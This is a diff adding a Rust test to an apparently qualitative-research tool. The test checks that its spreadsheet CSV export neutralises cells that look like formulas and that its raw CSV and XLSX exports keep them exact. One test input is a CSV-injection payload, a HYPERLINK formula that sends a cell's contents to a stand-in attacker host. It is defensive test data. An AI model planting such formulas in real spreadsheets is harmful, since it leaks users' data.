@@ -420,6 +420,90 @@ fn csv_has_a_bom_and_one_exact_row_per_excerpt() {
     assert_eq!(chinese[2], "2");
 }
 
+/// Would a spreadsheet read this cell as a formula? Excel, LibreOffice Calc and Google Sheets
+/// evaluate a cell whose text starts with one of these (OWASP, "CSV Injection").
+fn spreadsheet_runs(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn passages_that_look_like_formulas_are_inert_in_csv_and_exact_in_raw_csv_and_xlsx() {
+    let env = Env::new();
+    let project = env.path("inject.tamga");
+    env.ok(&["new", s(&project)]);
+    let quotes = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+7 701 555 12 34 called",
+        "- Біз қайттық, said the elder",
+        "@everyone came",
+        "=1+1",
+    ];
+    let text = quotes.join("\n\n");
+    let file = env.path("dialogue.txt");
+    std::fs::write(&file, &text).unwrap();
+    env.ok(&["import", s(&project), s(&file)]);
+    for (i, quote) in quotes.iter().enumerate() {
+        let code = if i % 2 == 0 { "=SUM(A1)" } else { "-minus" };
+        env.ok(&[
+            "code",
+            s(&project),
+            "--document",
+            "dialogue",
+            &format!("--code={code}"),
+            &format!("--quote={quote}"),
+        ]);
+    }
+    let read = |path: &Path, skip_bom: bool| -> Vec<Vec<String>> {
+        let bytes = std::fs::read(path).unwrap();
+        let body = if skip_bom {
+            assert!(bytes.starts_with("\u{feff}".as_bytes()));
+            &bytes[3..]
+        } else {
+            assert!(
+                !bytes.starts_with("\u{feff}".as_bytes()),
+                "raw CSV has no BOM"
+            );
+            &bytes[..]
+        };
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(body)
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    };
+    let sheet = read(&export(&env, &project, "for-excel.csv", &[]), true);
+    let raw = read(
+        &export(&env, &project, "for-r.csv", &["--format", "csv-raw"]),
+        false,
+    );
+    assert_eq!(sheet.len(), quotes.len() + 1);
+    // No cell of the spreadsheet CSV runs, and each reads back as its text after the apostrophe.
+    for row in &sheet {
+        for cell in row {
+            assert!(!spreadsheet_runs(cell), "live cell {cell:?}");
+        }
+    }
+    for quote in quotes {
+        assert!(sheet.iter().any(|r| r[5] == format!("'{quote}")), "{quote}");
+        assert!(raw.iter().any(|r| r[5] == quote), "raw lost {quote}");
+    }
+    // Code names that look like formulas are neutralised too, and kept exactly in raw.
+    assert!(sheet.iter().any(|r| r[0] == "'=SUM(A1)"));
+    assert!(raw.iter().any(|r| r[0] == "=SUM(A1)"));
+    // XLSX cells are strings, never formulas, and exact.
+    let xlsx = export(&env, &project, "excerpts.xlsx", &[]);
+    let sheet_xml = zip_entry(&xlsx, "xl/worksheets/sheet1.xml");
+    assert!(
+        !sheet_xml.contains("<f>") && !sheet_xml.contains("<f "),
+        "a formula cell"
+    );
+    let rows = xlsx_rows(&xlsx);
+    for quote in quotes {
+        assert!(rows.iter().any(|r| r[5] == quote), "xlsx lost {quote}");
+    }
+}
+
 #[test]
 fn xlsx_has_a_filtered_header_and_one_exact_row_per_excerpt() {
     let env = Env::new();
